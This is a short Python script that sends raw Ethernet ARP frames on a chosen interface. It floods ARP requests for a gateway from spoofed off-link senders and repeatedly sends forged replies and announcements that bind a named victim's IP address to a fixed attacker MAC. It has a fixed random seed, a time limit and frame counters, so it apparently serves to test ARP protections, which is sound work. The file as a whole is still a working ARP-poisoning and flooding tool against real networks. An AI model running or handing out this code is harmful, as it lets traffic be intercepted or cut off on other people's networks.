#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A hostile neighbour on a link, by raw frames: ARP questions for a gateway from senders that are not of the link, and answers and
announcements that claim a neighbour's address for another MAC address. Prints how many frames of each were sent."""
import argparse
import random
import socket
import struct
import time

HOSTILE = bytes.fromhex("02cafe000001")
ALL = b"\xff" * 6


def arp(kind, sender_mac, sender, target):
    head = ALL + sender_mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, kind)
    return head + sender_mac + sender + bytes(6) + target + bytes(18)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("interface")
    parser.add_argument("gateway")
    parser.add_argument("victim", help="a neighbour that the gateway sends to")
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--rate", type=int, default=10000, help="frames per second")
    options = parser.parse_args()
    rng = random.Random(826)
    gateway, victim = socket.inet_aton(options.gateway), socket.inet_aton(options.victim)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((options.interface, 0))
    sent = {"questions": 0, "claims": 0}
    began = time.monotonic()
    while time.monotonic() - began < options.seconds:
        for _ in range(20):
            stranger = bytes([198, 18 + rng.randrange(2), rng.randrange(256), rng.randrange(1, 255)])
            out.send(arp(1, HOSTILE, stranger, gateway))
            sent["questions"] += 1
        # An answer, an announcement and a question, all of them false.
        for kind, target in ((2, gateway), (1, victim), (1, gateway)):
            out.send(arp(kind, HOSTILE, victim, target))
            sent["claims"] += 1
        ahead = sum(sent.values()) / options.rate - (time.monotonic() - began)
        if ahead > 0.002:
            time.sleep(ahead)
    print(sent["questions"], sent["claims"])


if __name__ == "__main__":
    main()
